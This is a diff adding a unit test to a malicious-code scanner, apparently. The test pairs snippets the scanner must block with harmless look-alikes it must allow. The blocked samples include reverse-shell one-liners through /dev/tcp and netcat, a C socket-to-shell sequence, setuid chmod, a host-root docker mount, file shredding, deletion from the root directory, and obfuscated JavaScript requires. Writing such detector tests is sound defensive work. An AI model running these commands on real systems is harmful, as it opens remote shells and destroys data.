@@ -67,6 +67,31 @@ TEST(values_are_followed)
     CHECK(!blocked("x.py", "import base64\nc = base64.b64decode('eA==')\nc = 1\nexec(c)\n"));
 }
 
+/* Each with what is like it and harmless. */
+TEST(classes_of_attacks_and_their_neighbours)
+{
+    CHECK(blocked("x.sh", "exec 5<>/dev/tcp/192.0.2.1/80\n"));
+    CHECK(!blocked("x.sh", "exec 5<>/tmp/pipe\n"));
+    CHECK(blocked("x.sh", "sh -i < /tmp/f 2>&1 | nc a.test 1 > /tmp/f\n"));
+    CHECK(!blocked("x.sh", "sh build.sh 2>&1 | tee log\n"));
+    CHECK(blocked("x.sh", "chmod u+s /tmp/x\n"));
+    CHECK(!blocked("x.sh", "chmod u+x x; chmod 0755 y; chmod g+s shared\n"));
+    CHECK(blocked("x.sh", "docker run -v /:/host a sh\n"));
+    CHECK(!blocked("x.sh", "docker run -v \"$PWD:/src\" -v /srv/a:/a a make\n"));
+    CHECK(blocked("x.sh", "find . -name '*.doc' -print0 | xargs -0 shred -u\n"));
+    CHECK(blocked("x.py", "import os, shutil\nshutil.rmtree(os.path.join('/', x))\n"));
+    CHECK(!blocked("x.py", "import os, shutil\nshutil.rmtree(os.path.join('/tmp', x))\n"));
+    CHECK(blocked("x.js", "process.binding('spawn_sync').spawn({})\n"));
+    CHECK(blocked("x.js", "global['requ' + 'ire']('fs')\n"));
+    CHECK(!blocked("x.js", "const fs = require('fs'); fn.bind(process)\n"));
+    CHECK(blocked("x.c", "int f(void) { return nftw(getenv(\"HOME\"), g, 9, 0); }\n"));
+    CHECK(!blocked("x.c", "int f(char *p) { getenv(\"HOME\"); return nftw(p, g, 9, 0); }\n"));
+    CHECK(blocked("x.c", "int f(void) { connect(s, a, n); dup2(s, 0); execve(p, v, e); }\n"));
+    CHECK(!blocked("x.c", "int f(void) { dup2(null, 0); execve(p, v, e); }\n"));
+    CHECK(blocked("x.c", "int f(void) { sprintf(c, \"wget %s\", u); return system(c); }\n"));
+    CHECK(!blocked("x.c", "int f(void) { sprintf(c, \"cc %s\", u); return system(c); }\n"));
+}
+
 TEST(any_bytes_are_taken)
 {
     AUTO_FREE char *bytes = malloc(1 << 20);
